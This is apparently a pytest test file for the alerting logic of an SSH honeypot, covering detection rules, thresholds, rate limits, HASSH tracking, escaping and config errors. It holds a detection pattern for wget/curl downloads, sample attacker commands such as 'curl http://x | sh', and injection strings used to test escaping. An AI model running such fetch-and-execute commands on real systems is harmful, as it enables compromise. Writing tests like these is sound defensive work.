"""Alert rules (pure logic): kinds, RE2 patterns, thresholds per source within a window, rate limits, the
seen-HASSH set; the payloads (attacker bytes as data); the config's errors naming the key."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest

from sandtrap import events as ev
from sandtrap.config import load_settings
from sandtrap.config.alerts import AlertRule, AlertSettings, AlertTarget
from sandtrap.errors import ConfigError
from sandtrap.outputs.alerts import AlertSink
from sandtrap.outputs.alerts.delivery import backoff_s
from sandtrap.outputs.alerts.payload import Alert, make_alert, redact, slack_text
from sandtrap.outputs.alerts.rules import RuleState, SeenSet

HOOK = {"name": "hook", "kind": "webhook", "url": "https://hooks.example.net/T0K3N/secret?key=abc"}


def event(eventid: str, src_ip: str = "198.51.100.7", **fields: Any) -> ev.Event:
    return ev.Event(eventid=eventid, session="0123456789ab", src_ip=src_ip, sensor="s1", message="m", **fields)


def rule(**kw: Any) -> AlertRule:
    return AlertRule(**{"name": "r", "targets": ["hook"], **kw})


def test_each_kind_picks_its_events() -> None:
    cases = {
        "login_success": ev.LOGIN_SUCCESS,
        "login_failed": ev.LOGIN_FAILED,
        "transfer": ev.SESSION_FILE_DOWNLOAD,
        "honeytoken": ev.HONEYTOKEN_READ,
    }
    for kind, eventid in cases.items():
        state = RuleState(rule(when=kind), 100)
        assert state.consider(event(eventid), 0.0) == 1, kind
        assert state.consider(event(ev.SESSION_CONNECT), 0.0) == 0, kind
    upload = RuleState(rule(when="transfer"), 100)
    assert upload.consider(event(ev.SESSION_FILE_UPLOAD), 0.0) == 1


def test_command_pattern_is_searched_in_command_lines() -> None:
    state = RuleState(rule(when="command", pattern=r"(wget|curl)\s+http", rate_limit=100), 100)
    assert state.consider(event(ev.COMMAND_INPUT, input="cd /tmp; wget http://x/y"), 0.0) == 1
    assert state.consider(event(ev.COMMAND_INPUT, input="curl  http://x | sh", source="exec"), 0.0) == 1
    assert state.consider(event(ev.CHANNEL_EXEC, input="curl  http://x | sh"), 0.0) == 0  # its command.input counts
    assert state.consider(event(ev.COMMAND_INPUT, input="uname -a"), 0.0) == 0
    assert state.consider(event(ev.COMMAND_INPUT, input=None), 0.0) == 0
    assert state.counters.matched == 2


def test_a_catastrophic_pattern_stays_linear() -> None:
    # (a+)+$ backtracks exponentially in Python's re on 'aaa...b'; RE2 answers at once.
    state = RuleState(rule(when="command", pattern=r"^(a+)+$"), 100)
    assert state.consider(event(ev.COMMAND_INPUT, input="a" * 10_000 + "b"), 0.0) == 0


def test_threshold_counts_per_source_within_the_window() -> None:
    state = RuleState(rule(when="login_failed", threshold=3, window_s=10, rate_limit=100), 100)
    fails = [state.consider(event(ev.LOGIN_FAILED), t) for t in (0.0, 1.0)]
    other = state.consider(event(ev.LOGIN_FAILED, src_ip="203.0.113.9"), 1.5)
    assert fails == [0, 0] and other == 0
    assert state.consider(event(ev.LOGIN_FAILED), 2.0) == 3  # the third from this source within 10 s
    # Counting starts again: three more are needed, and spread over more than the window they make none.
    assert [state.consider(event(ev.LOGIN_FAILED), t) for t in (3.0, 9.0, 14.0)] == [0, 0, 0]
    assert state.consider(event(ev.LOGIN_FAILED), 15.0) == 3  # 9, 14, 15: within 10 s
    assert state.counters.fired == 2


def test_sources_counted_are_bounded() -> None:
    state = RuleState(rule(when="login_failed", threshold=2, rate_limit=100), max_sources=3)
    for i in range(10):
        state.consider(event(ev.LOGIN_FAILED, src_ip=f"192.0.2.{i}"), 0.0)
    assert len(state._sources) == 3
    assert state.consider(event(ev.LOGIN_FAILED, src_ip="192.0.2.0"), 0.1) == 0  # forgotten: counts from 1
    assert state.consider(event(ev.LOGIN_FAILED, src_ip="192.0.2.9"), 0.1) == 2  # remembered


def test_rate_limit_suppresses_past_the_limit_and_recovers() -> None:
    state = RuleState(rule(when="login_success", rate_limit=2, rate_period_s=60), 100)
    fired = [state.consider(event(ev.LOGIN_SUCCESS), t) for t in (0.0, 1.0, 2.0, 59.0)]
    assert fired == [1, 1, 0, 0]
    assert state.counters.suppressed == 2
    assert state.consider(event(ev.LOGIN_SUCCESS), 60.5) == 1  # the first alert left the period


def test_new_hassh_fires_once_per_fingerprint_and_ignores_junk() -> None:
    seen = SeenSet(2)
    state = RuleState(rule(when="new_hassh", rate_limit=100), 100, seen)
    a, b, c = "a" * 32, "b" * 32, "c" * 32
    assert state.consider(event(ev.CLIENT_KEX, hassh=a), 0.0) == 1
    assert state.consider(event(ev.CLIENT_KEX, hassh=a), 0.0) == 0
    assert state.consider(event(ev.CLIENT_KEX, hassh="not-a-hassh"), 0.0) == 0
    assert state.consider(event(ev.CLIENT_KEX, hassh=b), 0.0) == 1
    assert state.consider(event(ev.CLIENT_KEX, hassh=c), 0.0) == 1
    assert len(seen) == 2  # bounded: a, the oldest, is forgotten
    assert state.consider(event(ev.CLIENT_KEX, hassh=a), 0.0) == 1
    assert SeenSet(5, [*seen.dump().splitlines(), "junk", "A" * 32]).dump() == seen.dump()


async def test_seen_hasshes_persist_across_restarts(tmp_path: Path) -> None:
    settings = AlertSettings(targets=[AlertTarget(**HOOK)], rules=[rule(when="new_hassh")])
    first = AlertSink(settings, tmp_path)
    await first.start()
    first.write(event(ev.CLIENT_KEX, hassh="d" * 32))
    await first.close(grace_s=0)
    assert first.seen_path.read_text() == "d" * 32 + "\n"
    second = AlertSink(settings, tmp_path)
    assert second.seen is not None and len(second.seen) == 1
    second.write(event(ev.CLIENT_KEX, hassh="d" * 32))
    assert second.status()["rules"][0]["fired"] == 0
    await second.close(grace_s=0)


def test_payload_is_json_with_bounded_strings_and_slack_text_escaped() -> None:
    hostile = "<!channel> & <http://evil|click> \x1b[31m\u202e" + "x" * 5000
    e = event(ev.COMMAND_INPUT, input=hostile, kexAlgs=["k"] * 1000)
    alert = make_alert("r", "command", 1, e, max_field_chars=100)
    body = json.loads(alert.as_json())
    assert body["rule"] == "r" and body["event"]["eventid"] == ev.COMMAND_INPUT
    assert body["event"]["input"] == hostile[:100] + "…"
    assert len(body["event"]["kexAlgs"]) == 100
    text = json.loads(Alert("r", "command", 1, {"message": hostile, "sensor": "s"}).as_slack())["text"]
    assert "<" not in text and ">" not in text and "&lt;!channel&gt; &amp; &lt;http" in text
    assert "\x1b" not in text and "\\x1b" in text and "\u202e" not in text and "\\u202e" in text
    assert len(text) < 700  # the summary is cut


def test_an_alert_is_bounded_in_bytes_whatever_the_event_holds() -> None:
    e = event(ev.CLIENT_KEX, hassh="a" * 32, kexAlgs=["k" * 5000] * 1000, encCS=["e" * 5000] * 1000)
    alert = make_alert("r", "new_hassh", 1, e, max_field_chars=100_000)
    assert len(alert.as_json()) <= 64 * 1024 + 1024  # the event's JSON fits 64 KiB; the envelope is small
    assert alert.event["hassh"] == "a" * 32  # short fields are whole


def test_slack_text_escapes_only_what_slack_reads() -> None:
    assert slack_text("a<b>&c") == "a&lt;b&gt;&amp;c"


def test_redact_keeps_no_token() -> None:
    assert redact(HOOK["url"]) == "https://hooks.example.net/…"
    assert redact("http://user:pw@127.0.0.1:8080/x") == "http://127.0.0.1:8080/…"
    assert redact("http://[::1]:8080/hook?token=x") == "http://[::1]:8080/…"


def test_backoff_doubles_capped_with_jitter() -> None:
    target = AlertTarget(**HOOK, backoff_s=1.0, backoff_max_s=5.0)
    rng = random.Random(1)
    waits = [backoff_s(target, n, rng) for n in (1, 2, 3, 4, 5)]
    for wait, full in zip(waits, (1.0, 2.0, 4.0, 5.0, 5.0), strict=True):
        assert full / 2 <= wait <= full


@pytest.mark.parametrize(
    ("alerts", "message"),
    [
        ({"rules": [{"name": "c", "when": "command", "pattern": "(a)\\1", "targets": ["hook"]}], "targets": [HOOK]},
         "alerts.rules.0.pattern: not a valid RE2 pattern (invalid escape sequence: \\1)"),
        ({"rules": [{"name": "c", "when": "command", "targets": ["hook"]}], "targets": [HOOK]},
         "alert rule c: when: command needs a pattern"),
        ({"rules": [{"name": "l", "when": "login_success", "targets": ["nope"]}], "targets": [HOOK]},
         "alerts: rules.0.targets names 'nope', which is no target; define it under alerts.targets (defined: hook)"),
        ({"targets": [{"name": "w", "kind": "webhook", "url": "ftp://x/"}]},
         "alert target w: url must be an http(s) URL"),
        ({"targets": [{"name": "w", "kind": "command"}]}, "alert target w: kind: command needs argv"),
        ({"rules": [{"name": "l", "when": "login", "targets": ["hook"]}], "targets": [HOOK]},
         "alerts.rules.0.when: must be 'login_success', 'login_failed'"),
        ({"targets": [HOOK, HOOK]}, "alerts: targets: the name hook is used twice"),
    ],
)  # fmt: skip
def test_config_errors_name_the_key(alerts: dict[str, Any], message: str) -> None:
    with pytest.raises(ConfigError) as err:
        load_settings(None, {"alerts": alerts})
    assert message in str(err.value)


def test_toml_and_yaml_load_the_same_alerts(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(
        "alerts:\n  targets:\n    - {name: pager, kind: command, argv: [/bin/true]}\n"
        "  rules:\n    - {name: bf, when: login_failed, threshold: 5, window_s: 30, targets: [pager]}\n"
    )
    (tmp_path / "a.toml").write_text(
        '[[alerts.targets]]\nname = "pager"\nkind = "command"\nargv = ["/bin/true"]\n'
        '[[alerts.rules]]\nname = "bf"\nwhen = "login_failed"\nthreshold = 5\nwindow_s = 30\ntargets = ["pager"]\n'
    )
    yaml_alerts = load_settings(tmp_path / "a.yaml").alerts
    assert yaml_alerts == load_settings(tmp_path / "a.toml").alerts
    assert yaml_alerts.rules[0].threshold == 5


def test_url_env_reads_the_webhook_url_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    target = {"name": "chat", "kind": "slack", "url_env": "SANDTRAP_TEST_SLACK_URL"}
    with pytest.raises(ConfigError, match="url_env names SANDTRAP_TEST_SLACK_URL, which is not set"):
        load_settings(None, {"alerts": {"targets": [target]}})
    monkeypatch.setenv("SANDTRAP_TEST_SLACK_URL", "https://hooks.example.net/T/B/secret")
    (loaded,) = load_settings(None, {"alerts": {"targets": [target]}}).alerts.targets
    assert loaded.webhook_url == "https://hooks.example.net/T/B/secret" and loaded.url == ""
    assert "secret" not in str(load_settings(None, {"alerts": {"targets": [target]}}).model_dump())
